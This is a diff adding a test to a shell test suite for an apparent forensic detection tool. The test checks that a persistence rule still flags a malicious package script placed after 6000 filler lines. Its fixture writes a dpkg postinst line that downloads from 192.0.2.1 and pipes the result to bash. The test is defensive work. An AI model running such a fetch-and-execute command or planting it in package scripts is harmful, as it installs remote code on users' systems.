@@ -88,6 +88,22 @@ persistence/temporary-program medium /tmp/run
 persistence/world-writable medium /usr/lib/open
 persistence/world-writable medium /usr/share/d/open
 persistence/world-writable medium /usr/share/e"
+is "no rule fails" "$(grep -c 'failed after' err)" 0
+
+# ---- a long script of a package is read to its end
+cp -a r long
+{
+	echo '#!/bin/sh'
+	awk 'BEGIN { for (i = 0; i < 6000; i++) print "echo one more line of a long script" }'
+	echo 'wget -qO- http://192.0.2.1/i | bash'
+} >long/var/lib/dpkg/info/tool.postinst
+: >err
+"$BIN/case-ingest" l.db -- "$BIN/collect-packages" -r long 2>>err
+is "a long script" "$("$BIN/case-match" --iocs "$TOP/iocs" l.db 2>>err |
+	jq -r 'select(.rule == "persistence/package-script").path')" \
+	/var/lib/dpkg/info/tool.postinst
+is "is no trouble" "$(grep -c 'failed after' err)" 0
+
 # ---- a sibling explains what is the same there
 cp -a r r2
 printf 'x\n' >>r2/usr/lib/suid
